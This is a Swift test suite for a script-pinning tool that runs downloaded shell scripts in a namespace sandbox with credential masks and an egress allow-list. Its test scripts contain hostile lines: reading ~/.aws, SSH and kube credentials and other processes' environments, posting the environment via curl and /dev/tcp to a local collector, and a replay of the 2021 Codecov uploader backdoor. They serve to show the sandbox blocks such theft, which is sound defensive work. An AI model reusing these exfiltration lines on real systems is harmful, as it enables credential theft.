import Foundation
import Testing
@testable import ScriptPinKit

/// Confinement, tested as root (as CI runs) and as `nobody`: what a
/// confined script can see, where it can connect, and what happens where
/// the kernel refuses namespaces.
@Suite("Confinement: namespaces, credential masks and the egress proxy")
struct ConfinementTests {
    let server: HTTPSFixture

    init() throws {
        server = try HTTPSFixture()
    }

    /// Who runs scriptpin in a test: root in a plain temporary directory, or
    /// `nobody` in a directory it owns.
    enum User: String, CaseIterable, CustomStringConvertible {
        case root
        case nobody

        var description: String { rawValue }
    }

    /// A directory holding a manifest, a copy of the CA, a home with
    /// credential files and a copy of scriptpin, in which `user` runs commands.
    final class Stage {
        let sandbox: UnprivilegedSandbox
        let user: User

        init(user: User, server: HTTPSFixture) throws {
            self.user = user
            sandbox = try UnprivilegedSandbox()
            directory.write("ca.pem", try String(contentsOfFile: server.caFile, encoding: .utf8))
            directory.write("known-hashes/.keep", "")
        }

        var directory: TemporaryDirectory { sandbox.directory }

        /// Publishes `script` and pins it as `name`, with `extra` pin lines.
        func pin(_ name: String, _ script: String, server: HTTPSFixture, extra: String = "") {
            server.serve("\(name).sh", script)
            directory.write("known-hashes/\(name).pin", "url \(server.url("files/\(name).sh"))\nsha256 \(sha256Hex(script))\n\(extra)")
        }

        var environment: [String: String] {
            [
                "PATH": "/usr/bin:/bin", "HOME": directory.path, "SSL_CERT_FILE": directory.url("ca.pem"),
                "SCRIPTPIN_CACHE": directory.url("cache"),
            ]
        }

        /// `sh -c command` as the stage's user, in the stage; `./scriptpin` is the binary.
        func run(_ command: String, extraEnvironment: [String: String] = [:]) -> ProcessResult {
            let environment = self.environment.merging(extraEnvironment) { $1 }
            guard user == .root else {
                sandbox.handOver()
                return sandbox.run(command, environment: environment)
            }
            return ProcessRunner.run("/bin/sh", ["-c", command], in: directory.path, environment: environment)
        }
    }

    static let visibilityScript = """
        #!/bin/sh
        set -- /proc/[0-9]*
        echo "processes: $*"
        echo "ancestors' secret: $(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '^HELD_SECRET=')"
        for file in .aws/credentials .ssh/id_ed25519 .docker/config.json .git-credentials .kube/config .config/private.txt .netrc; do
            if [ -e "$HOME/$file" ]; then echo "$file: [$(cat "$HOME/$file" 2>&1)]"; else echo "$file: absent"; fi
        done
        echo "secret.txt: [$(cat secret.txt)]"
        echo "input: $(cat input.txt)"
        echo written > output.txt
        """

    /// Credential files in the stage's home, and files in its workspace.
    private func writeCredentials(in stage: Stage) {
        for (file, content) in [
            ".aws/credentials": "aws-secret", ".ssh/id_ed25519": "ssh-secret", ".docker/config.json": "docker-secret",
            ".git-credentials": "git-secret", ".kube/config": "kube-secret", ".config/private.txt": "private-secret",
            ".netrc": "machine example.com login me", "secret.txt": "workspace-secret", "input.txt": "hello",
        ] {
            stage.directory.write(file, content)
        }
    }

    @Test("Confined, a script sees only its own processes and no ancestor's environment; credential stores are masked, the workspace is not", arguments: User.allCases)
    func visibility(user: User) throws {
        let stage = try Stage(user: user, server: server)
        writeCredentials(in: stage)
        stage.pin("visible", Self.visibilityScript, server: server, extra: "hide ~/.config/private.txt\nexpose ~/.netrc\n")
        let confined = stage.run("./scriptpin run visible --hide secret.txt; exit $?", extraEnvironment: ["HELD_SECRET": "held-4711"])
        #expect(confined.status == 0, "\(confined.stderr)")
        #expect(confined.stdout == """
            processes: /proc/1 /proc/2
            ancestors' secret: 0
            .aws/credentials: absent
            .ssh/id_ed25519: absent
            .docker/config.json: []
            .git-credentials: []
            .kube/config: absent
            .config/private.txt: []
            .netrc: [machine example.com login me]
            secret.txt: []
            input: hello

            """)
        #expect(stage.directory.read("output.txt") == "written\n")
        #expect(stage.directory.read(".aws/credentials") == "aws-secret", "the masks live only in the sandbox")
        #expect(!confined.stderr.contains("still holds"), "a confined script cannot reach the parent, so there is nothing to warn about")

        // The same script unconfined: what the sandbox took away is there.
        let unconfined = stage.run("./scriptpin run visible --confine off; exit $?", extraEnvironment: ["HELD_SECRET": "held-4711"])
        #expect(unconfined.status == 0)
        #expect(!unconfined.stdout.contains("ancestors' secret: 0"), "\(unconfined.stdout)")
        #expect(unconfined.stdout.contains(".aws/credentials: [aws-secret]"))
        #expect(unconfined.stderr.contains("still holds HELD_SECRET"))
    }

    @Test("A script running as root in the sandbox cannot unmount the masks or /proc")
    func masksAreLocked() throws {
        let stage = try Stage(user: .root, server: server)
        writeCredentials(in: stage)
        let script = """
            #!/bin/sh
            umount -l "$HOME/.aws" 2>/dev/null && echo "unmounted .aws"
            umount -l /proc 2>/dev/null && echo "unmounted /proc"
            cat "$HOME/.aws/credentials" 2>/dev/null || echo "credentials: absent"
            set -- /proc/[0-9]*
            echo "processes: $*"
            """
        stage.pin("unmount", script, server: server)
        let result = stage.run("./scriptpin run unmount")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "credentials: absent\nprocesses: /proc/1 /proc/2\n")
    }

    /// Fetches through the proxy, then tries to send the environment to the collector twice.
    private func egressScript() -> String {
        """
        #!/bin/bash
        curl -fsS --cacert "$SSL_CERT_FILE" \(server.url("files/payload.txt"))
        curl -s -o /dev/null -w 'exfiltration: %{http_code}\\n' -d "$(env)" \(server.collectorURL("upload"))
        if (echo leak > /dev/tcp/127.0.0.1/\(server.collectorPort)) 2>/dev/null; then echo "direct: connected"; else echo "direct: refused"; fi
        """
    }

    @Test("With an egress line, the pinned host is reachable through the proxy and nothing else is, by proxy or directly", arguments: User.allCases)
    func egressAllowList(user: User) throws {
        let stage = try Stage(user: user, server: server)
        server.serve("payload.txt", "payload\n")
        stage.pin("egress", egressScript(), server: server, extra: "egress 127.0.0.1:\(server.trustedPort)\n")
        let result = stage.run("./scriptpin run egress")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "payload\nexfiltration: 403\ndirect: refused\n")
        #expect(result.stderr.contains("scriptpin: blocked 127.0.0.1:\(server.collectorPort) (not in the pin's egress list)\n"))
        #expect(result.stderr.contains("scriptpin: egress 127.0.0.1:\(server.trustedPort): 1 connection, "))
        #expect(result.stderr.contains("scriptpin: network: 1 connection allowed ("))
        #expect(result.stderr.hasSuffix("bytes received), 1 blocked\n"), "\(result.stderr)")
        #expect(!result.stderr.contains("network is unrestricted"))
        #expect(!server.requests.contains { $0.hasPrefix("collector") }, "the collector received nothing")
        #expect(server.collected == "")
    }

    @Test("The Codecov replay: a pinned, backdoored uploader whose pin lists only the upload host sends nothing to the collector")
    func codecovReplay() throws {
        let stage = try Stage(user: .root, server: server)
        // Our stand-in for the 2021 uploader: a report upload, and the one
        // added line that posted `git remote -v` and the whole environment.
        let uploader = """
            #!/bin/bash
            report=$(mktemp)
            echo "coverage report" > "$report"
            curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" \(server.collectorURL("upload/v2")) || true
            curl -fsS --cacert "$SSL_CERT_FILE" --data-binary @"$report" \(server.url("upload/v4")) > /dev/null && echo uploaded
            """
        stage.pin("codecov", uploader, server: server, extra: "egress 127.0.0.1:\(server.trustedPort)\n")
        let result = stage.run("./scriptpin run codecov", extraEnvironment: ["CODECOV_TOKEN": "codecov-token-4711"])
        #expect(result.status == 0, "\(result.stderr)")
        // The backdoor's curl prints whatever answers it: the proxy's refusal.
        #expect(result.stdout == "scriptpin: 127.0.0.1:\(server.collectorPort) is not in the pin's egress list\nuploaded\n")
        #expect(server.collected == "coverage report\n\n", "only the report arrived, at the upload host")
        #expect(!server.requests.contains { $0.hasPrefix("collector") })
        #expect(result.stderr.contains("scriptpin: blocked 127.0.0.1:\(server.collectorPort) (not in the pin's egress list)\n"))
    }

    @Test("--egress-audit lets everything through and lists exactly the destinations contacted, as pin lines")
    func egressAudit() throws {
        let stage = try Stage(user: .root, server: server)
        server.serve("payload.txt", "payload\n")
        stage.pin("audited", egressScript(), server: server)
        let result = stage.run("./scriptpin run audited --egress-audit")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "payload\nexfiltration: 200\ndirect: refused\n")
        let lines = [server.collectorPort, server.trustedPort].sorted().map { "egress 127.0.0.1:\($0)\n" }.joined()
        #expect(result.stderr.hasSuffix("scriptpin: egress audit: the script contacted 2 destinations; these lines in its pin allow exactly them:\n" + lines), "\(result.stderr)")
        #expect(!result.stderr.contains("scriptpin: blocked"))
    }

    @Test("--egress-audit --save --yes writes the lines it lists into the pin, keeping its own; a failed script saves nothing; --save needs the audit")
    func egressAuditSave() throws {
        let stage = try Stage(user: .root, server: server)
        server.serve("payload.txt", "payload\n")
        let script = egressScript()
        stage.pin("audited", script, server: server, extra: "# reviewed by hand\negress example.com\n")
        let saved = stage.run("./scriptpin run audited --egress-audit --save --yes")
        #expect(saved.status == 0, "\(saved.stderr)")
        let lines = [server.collectorPort, server.trustedPort].sorted().map { "egress 127.0.0.1:\($0)\n" }.joined()
        #expect(stage.directory.read("known-hashes/audited.pin") == "url \(server.url("files/audited.sh"))\nsha256 \(sha256Hex(script))\n# reviewed by hand\negress example.com\n" + lines)
        #expect(saved.stderr.hasSuffix("scriptpin: wrote 2 egress lines into known-hashes/audited.pin; review and commit it\n"), "\(saved.stderr)")
        // Saved again: nothing new.
        let again = stage.run("./scriptpin run audited --egress-audit --save --yes")
        #expect(again.stderr.hasSuffix("scriptpin: wrote 0 egress lines into known-hashes/audited.pin (it listed every host already); review and commit it\n"), "\(again.stderr)")

        let failing = "#!/bin/sh\nexit 3\n"
        stage.pin("failing", failing, server: server)
        let failed = stage.run("./scriptpin run failing --egress-audit --save --yes")
        #expect(failed.status == 3)
        #expect(failed.stderr.contains("scriptpin: the egress lines were not saved: the script exited with status 3, so the audit may be missing hosts; audit it again once it succeeds\n"), "\(failed.stderr)")
        #expect(stage.directory.read("known-hashes/failing.pin") == "url \(server.url("files/failing.sh"))\nsha256 \(sha256Hex(failing))\n")

        // Without a terminal and without --yes nothing is written.
        let quiet = "#!/bin/sh\necho quiet\n"
        stage.pin("quiet", quiet, server: server)
        let notConfirmed = stage.run("./scriptpin run quiet --egress-audit --save < /dev/null")
        #expect(notConfirmed.status == 0)
        #expect(notConfirmed.stderr.contains("scriptpin: the egress lines were not written into known-hashes/quiet.pin; run again with --save --yes, or copy them from above\n"), "\(notConfirmed.stderr)")
        let none = stage.run("./scriptpin run quiet --egress-audit --save --yes")
        #expect(stage.directory.read("known-hashes/quiet.pin")?.hasSuffix("\negress none\n") == true, "\(none.stderr)")

        let withoutAudit = stage.run("./scriptpin run quiet --save")
        #expect(withoutAudit.status == 125)
        #expect(withoutAudit.stderr.hasPrefix("Error: --save writes what an egress audit lists; give --egress-audit with it"), "\(withoutAudit.stderr)")
    }

    @Test("`egress none`: loopback only, no proxy variables, no way out")
    func egressNone() throws {
        let stage = try Stage(user: .root, server: server)
        let script = """
            #!/bin/sh
            curl -fsS -m 5 --cacert "$SSL_CERT_FILE" \(server.url("files/none.sh")) > /dev/null 2>&1 || echo "no network"
            echo "proxy variables: $(env | grep -ci proxy)"
            """
        stage.pin("none", script, server: server, extra: "egress none\n")
        // http_proxy: the fetch is https, so it is not used for it, but it would reach the script.
        let result = stage.run("http_proxy=http://proxy.example:8080 NO_PROXY=example.com ./scriptpin run none")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "no network\nproxy variables: 0\n")
    }

    @Test("Arguments, stdin, the exit status and signals pass through the sandbox unchanged", arguments: ["required", "off"])
    func unchangedInside(mode: String) throws {
        let stage = try Stage(user: .root, server: server)
        let script = "#!/bin/sh\nread line\necho \"args=$* line=$line fd3=$(test -e /dev/fd/3 && echo yes)\"\nexit 7\n"
        stage.pin("plain", script, server: server)
        let result = stage.run("printf 'typed\\n' | ./scriptpin run plain --confine \(mode) -- 'one two' three")
        #expect(result.status == 7)
        #expect(result.stdout == "args=one two three line=typed fd3=yes\n")
    }

    /// A program that runs a command under a seccomp filter refusing new
    /// user namespaces, as a container runtime's default profile does.
    private func compileNoUserNamespaceWrapper(into directory: TemporaryDirectory) throws -> String {
        try compileSeccompWrapper(named: "no-userns", rules: """
                    /* clone3 passes its flags in memory a filter cannot read: say it does not exist. */
                    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_clone3, 0, 1),
                    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
                    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_clone, 1, 0),
                    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_unshare, 0, 3),
                    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
                    BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, CLONE_NEWUSER, 0, 1),
                    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
            """, into: directory)
    }

    private func requestCount(for name: String) -> Int {
        server.requests.count { $0.contains("/files/\(name).sh") }
    }

    @Test("Under a seccomp filter that refuses user namespaces: auto warns and runs, required and egress pins refuse with 125 before fetching", arguments: User.allCases)
    func seccompFallback(user: User) throws {
        let stage = try Stage(user: user, server: server)
        _ = try compileNoUserNamespaceWrapper(into: stage.directory)
        let script = "#!/bin/sh\necho ran\n"
        stage.pin("fallback", script, server: server)
        stage.pin("fenced", "#!/bin/sh\necho fenced\n", server: server, extra: "egress example.com\n")

        let auto = stage.run("./no-userns ./scriptpin run fallback")
        #expect(auto.status == 0, "\(auto.stderr)")
        #expect(auto.stdout == "ran\n")
        #expect(auto.stderr.contains("Warning: the script runs unconfined: a seccomp filter refuses to create namespaces (a container runtime's default profile does). Fix: run the container with a seccomp profile that allows clone and unshare with CLONE_NEWUSER\n"), "\(auto.stderr)")

        let fetchedBefore = requestCount(for: "fallback")
        let required = stage.run("./no-userns ./scriptpin run fallback --confine required")
        #expect(required.status == 125)
        #expect(required.stdout == "")
        #expect(required.stderr.contains("Error: confinement is required (the run's options ask for it), and this system cannot provide it, so nothing was fetched or run: a seccomp filter refuses"), "\(required.stderr)")
        #expect(required.stderr.hasSuffix("CLONE_NEWUSER; run with --confine off to go without confinement\n"), "the remedy ends the message: \(required.stderr)")
        #expect(requestCount(for: "fallback") == fetchedBefore, "nothing was fetched")

        let fenced = stage.run("./no-userns ./scriptpin run fenced")
        #expect(fenced.status == 125)
        #expect(fenced.stdout == "")
        // Its egress lines need confinement: the fix offered is never to go without it.
        #expect(fenced.stderr.contains("Error: confinement is required (only confinement enforces the egress rules), and this system cannot provide it"), "\(fenced.stderr)")
        #expect(fenced.stderr.hasSuffix("allows clone and unshare with CLONE_NEWUSER\n"), "\(fenced.stderr)")
        #expect(!fenced.stderr.contains("--confine off"), "\(fenced.stderr)")
        #expect(requestCount(for: "fenced") == 0, "nothing was fetched")

        // The pin's own `confine` line decides the same, and the command line overrides it.
        stage.pin("strict", "#!/bin/sh\necho strict\n", server: server, extra: "confine required\n")
        let strict = stage.run("./no-userns ./scriptpin run strict")
        #expect(strict.status == 125)
        #expect(strict.stderr.contains("Error: confinement is required (the pin's `confine` line asks for it), and this system cannot provide it"), "\(strict.stderr)")
        #expect(strict.stderr.hasSuffix("; run with --confine off to go without confinement\n"), "\(strict.stderr)")
        #expect(requestCount(for: "strict") == 0, "nothing was fetched")
        let overridden = stage.run("./no-userns ./scriptpin run strict --confine off")
        #expect(overridden.status == 0, "\(overridden.stderr)")
        #expect(overridden.stdout == "strict\n")
        #expect(!overridden.stderr.contains("runs unconfined"), "confinement off is not a fallback to warn about")
    }

    @Test("With user.max_user_namespaces at 0 (inside a user namespace of the test's own): auto warns and runs, required refuses with 125")
    func namespaceLimitFallback() throws {
        let stage = try Stage(user: .root, server: server)
        stage.pin("limited", "#!/bin/sh\necho ran\n", server: server)
        let limit = "echo 0 > /proc/sys/user/max_user_namespaces && exec ./scriptpin run limited"
        let auto = stage.run("unshare --user --map-root-user sh -c '\(limit)'")
        #expect(auto.status == 0, "\(auto.stderr)")
        #expect(auto.stdout == "ran\n")
        #expect(auto.stderr.contains("Warning: the script runs unconfined: the kernel allows no more user namespaces (user.max_user_namespaces = 0). Fix: sysctl -w user.max_user_namespaces=15000\n"), "\(auto.stderr)")
        let required = stage.run("unshare --user --map-root-user sh -c '\(limit) --confine required'")
        #expect(required.status == 125)
        #expect(required.stderr.contains("(user.max_user_namespaces = 0)"))
    }

    @Test("Root inside a user namespace that maps only itself (as in a container) is confined with the ids it has; a limit that leaves no room for the script's nested namespace falls back")
    func partialRootMapping() throws {
        let stage = try Stage(user: .root, server: server)
        stage.pin("nested", "#!/bin/sh\nset -- /proc/[0-9]*\necho \"processes: $*\"\n", server: server)
        let confined = stage.run("unshare --user --map-root-user ./scriptpin run nested --confine required")
        #expect(confined.status == 0, "\(confined.stderr)")
        #expect(confined.stdout == "processes: /proc/1 /proc/2\n")
        let limited = stage.run("unshare --user --map-root-user sh -c 'echo 1 > /proc/sys/user/max_user_namespaces && exec ./scriptpin run nested'")
        #expect(limited.status == 0, "\(limited.stderr)")
        #expect(limited.stderr.contains("Warning: the script runs unconfined: the kernel allows no more user namespaces (user.max_user_namespaces = 1)."))
        #expect(!limited.stdout.contains("processes: /proc/1 /proc/2\n"), "unconfined, the script sees the host's processes")
    }

    @Test("Egress lines cannot be combined with --confine off or with `egress none`")
    func contradictions() throws {
        let stage = try Stage(user: .root, server: server)
        stage.pin("listed", "#!/bin/sh\necho listed\n", server: server, extra: "egress example.com\n")
        let off = stage.run("./scriptpin run listed --confine off")
        #expect(off.status == 125)
        #expect(off.stderr == "Error: egress rules are enforced by confinement, so they cannot run with confinement off (the run's options ask for it); drop one or the other\n")
        // A pin cannot hold both (its parser refuses that); egress on the command line meets the pin's `confine off` here.
        stage.pin("unconfined", "#!/bin/sh\necho unconfined\n", server: server, extra: "confine off\n")
        let pinnedOff = stage.run("./scriptpin run unconfined --egress example.org")
        #expect(pinnedOff.status == 125)
        #expect(pinnedOff.stderr == "Error: egress rules are enforced by confinement, so they cannot run with confinement off (the pin's `confine` line asks for it); drop one or the other\n")
        let none = stage.run("./scriptpin run listed --egress none")
        #expect(none.status == 125)
        #expect(none.stderr == "Error: `egress none` cannot be combined with egress hosts (example.com); keep one or the other\n")
    }
}

@Suite("Egress rules and the proxy's request parsing")
struct EgressRuleTests {
    @Test("Destinations parse with their default port, wildcards match subdomains only", arguments: [
        ("example.com", "example.com:443"), ("Example.COM:8443", "example.com:8443"), ("*.example.com", "*.example.com:443"),
        ("127.0.0.1:8080", "127.0.0.1:8080"), ("[::1]:80", "[::1]:80"),
    ])
    func parsing(text: String, address: String) {
        #expect(EgressDestination(parsing: text)?.address == address)
    }

    @Test("Malformed destinations are refused", arguments: ["", "exa mple.com", "example.com:0", "example.com:70000", "-bad.com", "a..b", "*", "host:", "[::1", "user@host"])
    func malformed(text: String) {
        #expect(EgressDestination(parsing: text) == nil)
    }

    @Test("Matching is by host and port; a wildcard covers subdomains, not the domain itself")
    func matching() throws {
        let wildcard = try #require(EgressDestination(parsing: "*.example.com"))
        #expect(wildcard.allows(host: "api.example.com", port: 443))
        #expect(wildcard.allows(host: "A.B.EXAMPLE.COM.", port: 443))
        #expect(!wildcard.allows(host: "example.com", port: 443))
        #expect(!wildcard.allows(host: "evilexample.com", port: 443))
        #expect(!wildcard.allows(host: "api.example.com", port: 80))
    }

    @Test("The proxy reads CONNECT and absolute http:// requests, and refuses the rest")
    func proxyRequests() throws {
        guard case .success(let tunnel) = ProxyRequest.parse(Array("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n".utf8)),
              case .tunnel = tunnel.kind
        else { Issue.record("CONNECT not read"); return }
        #expect(tunnel.destination.address == "example.com:443")
        guard case .success(let plain) = ProxyRequest.parse(Array("GET http://example.com/a?b HTTP/1.1\r\nHost: example.com\r\n\r\n".utf8)),
              case .forward(let head) = plain.kind
        else { Issue.record("absolute GET not read"); return }
        #expect(plain.destination.address == "example.com:80")
        #expect(String(decoding: head, as: UTF8.self) == "GET /a?b HTTP/1.1\r\nHost: example.com\r\n\r\n")
        for refused in ["GET /relative HTTP/1.1\r\n\r\n", "GET https://example.com/ HTTP/1.1\r\n\r\n", "CONNECT example.com HTTP/1.1\r\n\r\n", "garbage\r\n\r\n"] {
            guard case .failure = ProxyRequest.parse(Array(refused.utf8)) else {
                Issue.record("accepted: \(refused)")
                continue
            }
        }
    }

    @Test("add's egress guess lists the literal hosts of a script, not the ones built from variables or named in comments")
    func guess() {
        let script = "#!/bin/sh\n# docs: https://docs.example.com/install\n  # see http://wiki.example.net\ncurl https://get.example.com/x | sh # https://trailing.example.com\necho \"upload # https://quoted.example.com\"\nwget http://mirror.example.org:8080/y\ncurl https://$HOST/z\ncurl https://api.example.com:443/\n"
        #expect(EgressGuess.destinations(in: script).map(\.description) == ["api.example.com", "get.example.com", "mirror.example.org:8080", "quoted.example.com"])
    }
}
